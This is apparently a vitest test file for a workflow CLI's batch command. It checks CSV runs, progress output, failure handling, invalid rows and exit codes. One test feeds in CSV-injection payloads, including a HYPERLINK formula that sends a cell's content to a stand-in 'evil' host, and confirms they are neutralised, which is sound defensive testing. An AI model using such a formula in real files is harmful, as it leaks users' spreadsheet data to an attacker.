import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorkflow, startTestServer, type TestServer } from '../support/assay-server';
import { cli, UPPER, type CliResult } from './cli-harness';

/** Upper-cases a name; a name starting with "x" fails the run. */
const PICKY = {
  name: 'Picky',
  inputs: { name: { type: 'string', required: true }, n: { type: 'integer' } },
  steps: [
    { id: 'refuse', type: 'fail', if: '$substring(input.name, 0, 1) = "x"', with: { message: 'names starting with x are refused' } },
    { id: 'up', type: 'transform', with: { expression: '$uppercase(input.name)' } },
  ],
  output: { upper: '{{ steps.up.output }}' },
};

describe('assay batch', () => {
  let server: TestServer;
  let assay: (args: string[], env?: Record<string, string>) => Promise<CliResult>;
  let upper: string;
  let picky: string;
  const dir = mkdtempSync(path.join(tmpdir(), 'assay-cli-batch-'));
  const file = (name: string, text: string) => {
    const target = path.join(dir, name);
    writeFileSync(target, text);
    return target;
  };

  beforeAll(async () => {
    server = await startTestServer();
    assay = cli(server);
    upper = await createWorkflow(server, UPPER);
    picky = await createWorkflow(server, PICKY);
  });
  afterAll(async () => {
    await server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('runs a CSV file, shows progress on stderr and writes the results file (exit 0 when every run completed)', async () => {
    const companies = file('companies.csv', `name\n${Array.from({ length: 200 }, (_, i) => `company ${i}`).join('\n')}\n`);
    const out = path.join(dir, 'results.csv');
    const result = await assay(['batch', 'run', upper, '--csv', companies, '--out', out, '--concurrency', '20', '--interval', '100']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toMatch(/^batch [0-9a-f]{24}: 200 runs$/m);
    // Not a terminal: plain progress lines (no carriage returns), ending with the final state.
    expect(result.stderr).not.toContain('\r');
    expect(result.stderr).toMatch(/\[#{20}\] 100% 200\/200 done\s+[\d.]+ runs\/s\s+done/);
    expect(result.stderr).toMatch(/completed: 200 completed, 0 failed, 0 cancelled of 200/);
    expect(result.stderr).toContain(`results written to ${out}`);
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(200);
    expect(Object.keys(rows[0] as object)).toEqual(['name', 'upper', 'status', 'error', 'runId']);
    expect(rows[199]).toMatchObject({ name: 'company 199', upper: 'COMPANY 199', status: 'completed' });

    const id = /^batch ([0-9a-f]{24})/m.exec(result.stderr)?.[1] as string;
    const shown = await assay(['batch', 'get', id]);
    expect(shown.code).toBe(0);
    expect(shown.stdout).toMatch(/status\s+completed/);
    expect(shown.stdout).toMatch(/runs\s+queued 0, running 0, waiting 0, completed 200, failed 0, cancelled 0/);
    const json = JSON.parse((await assay(['batch', 'get', id, '--json'])).stdout);
    expect(json).toMatchObject({ id, total: 200, counts: { completed: 200 } });

    const watched = await assay(['batch', 'watch', id]);
    expect(watched.code).toBe(0);
    expect(watched.stderr).toMatch(/100% 200\/200 done/);

    const jsonl = await assay(['batch', 'results', id, '--format', 'jsonl']);
    const lines = jsonl.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toHaveLength(200);
    expect(lines[0]).toMatchObject({ name: 'company 0', upper: 'COMPANY 0', status: 'completed' });
  });

  it('exits 1 when runs failed, still writing every result (JSON Lines to stdout without --out)', async () => {
    const names = file('names.csv', 'name,n\nalpha,1\nxavier,2\nbeta,3\nxena,4\n');
    const result = await assay(['batch', 'run', picky, '--csv', names, '--format', 'jsonl', '--interval', '100']);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/completed: 2 completed, 2 failed, 0 cancelled of 4/);
    const lines = result.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => [l.name, l.n, l.status, l.error])).toEqual([
      ['alpha', 1, 'completed', null],
      ['xavier', 2, 'failed', 'names starting with x are refused'],
      ['beta', 3, 'completed', null],
      ['xena', 4, 'failed', 'names starting with x are refused'],
    ]);
  });

  it('refuses a file with invalid rows naming them, or skips them with --skip-invalid', async () => {
    const bad = file('bad.csv', 'name,n\nalpha,1\n,2\ngamma,three\n');
    const refused = await assay(['batch', 'run', picky, '--csv', bad]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('rows[2].name: required string is missing');
    expect(refused.stderr).toContain('rows[3].n: "three" is not a number');

    const out = path.join(dir, 'skipped.csv');
    const skipped = await assay(['batch', 'run', picky, '--csv', bad, '--skip-invalid', '--out', out, '--interval', '100']);
    expect(skipped.code, skipped.stderr).toBe(0);
    expect(skipped.stderr).toMatch(/: 1 runs \(2 invalid rows skipped\)/);
    expect(skipped.stderr).toContain('skipped row 2 name: required string is missing');
    expect(parse(readFileSync(out, 'utf8'), { columns: true })).toHaveLength(1);
  });

  it('writes a --out file whose formula-like cells are neutralised with a quote (CSV injection, issue 11 item 5)', async () => {
    const attacks = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1'];
    const csv = file(
      'attacks.csv',
      `name,n\n${attacks.map((name, i) => `"${name.replaceAll('"', '""')}",${i % 2 === 0 ? -2 : 3}`).join('\n')}\n`,
    );
    const out = path.join(dir, 'attacks-results.csv');
    const result = await assay(['batch', 'run', picky, '--csv', csv, '--out', out, '--interval', '100']);
    expect(result.code, result.stderr).toBe(0);
    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((row) => row.name)).toEqual(attacks.map((attack) => `'${attack}`));
    expect(rows.map((row) => row.upper)).toEqual(attacks.map((attack) => `'${attack.toUpperCase()}`));
    // A typed number column keeps its minus sign: a number cannot be a formula.
    expect(rows.map((row) => row.n)).toEqual(['-2', '3', '-2', '3', '-2']);
  });

  it('reports usage mistakes with exit 2', async () => {
    expect((await assay(['batch', 'run', upper, '--csv', path.join(dir, 'missing.csv')])).code).toBe(2);
    expect((await assay(['batch', 'run', upper])).code).toBe(2);
    expect((await assay(['batch', 'run', upper, '--csv', file('x.csv', 'name\na\n'), '--format', 'xml'])).code).toBe(2);
    expect((await assay(['batch', 'run', upper, '--csv', file('y.csv', 'name\na\n'), '--concurrency', '0'])).code).toBe(2);
  });
});
